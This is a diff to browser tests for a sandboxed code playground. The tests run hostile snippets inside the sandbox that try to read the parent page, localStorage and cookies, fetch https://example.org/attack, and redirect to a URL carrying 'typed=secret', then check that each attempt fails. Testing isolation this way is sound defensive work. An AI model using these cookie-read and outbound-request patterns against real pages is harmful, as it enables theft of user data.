@@ -46,23 +46,17 @@ test('nothing that it does reaches the page, its storage, or the network', async
   await runCode(
     page,
     `function Attack() {
-  const [found, setFound] = useState([]);
+  const [open, setOpen] = useState(['trying']);
   useEffect(() => {
-    const attempts = {
-      page: () => parent.document.title,
-      storage: () => localStorage.length,
-      cookie: () => document.cookie,
-      network: () => fetch('https://example.org/attack').then(() => { throw null; }, () => { throw Error(); }),
-    };
-    Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
-      try { return name + ' open ' + (await attempt()); } catch (error) { return error === null ? name + ' open' : name + ' shut'; }
-    })).then(setFound);
+    const ways = [() => parent.document.title, () => localStorage, () => document.cookie, () => fetch('https://example.org/attack')];
+    const tries = ways.map(async (way) => way());
+    Promise.allSettled(tries).then((all) => setOpen(all.map(({status}) => status)));
     top.postMessage('attack', '*');
   }, []);
-  return <p>{found.join(', ')}</p>;
+  return <p>{open.join()}</p>;
 }`,
   );
-  await expect(frameOf(page).getByText('page shut, storage shut, cookie shut, network shut')).toBeVisible();
+  await expect(frameOf(page).getByText('rejected,rejected,rejected,rejected')).toBeVisible();
   expect(asked.filter((address) => address.includes('example.org'))).toEqual([]);
   await expect(page).toHaveTitle(/libraries/i);
 });
@@ -87,14 +81,11 @@ test('on a host without headers, no other page comes into the frame', async ({pa
     return route.fulfill({response, headers: {'content-type': 'text/html; charset=utf-8'}});
   });
   const asked: string[] = [];
-  await page.route('https://example.org/**', (route) => {
-    asked.push(route.request().url());
-    return route.abort();
-  });
+  page.on('request', (request) => asked.push(request.url()));
   await visit(page, path);
   await runCode(page, "() => { location.href = 'https://example.org/?typed=secret'; return <b>x</b>; }");
   await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-error:'))).toBe(true);
-  expect(asked).toEqual([]);
+  expect(asked.filter((address) => address.includes('example.org'))).toEqual([]);
 });
 
 test('playgroundPosition places the results of all live code', async ({page}) => {
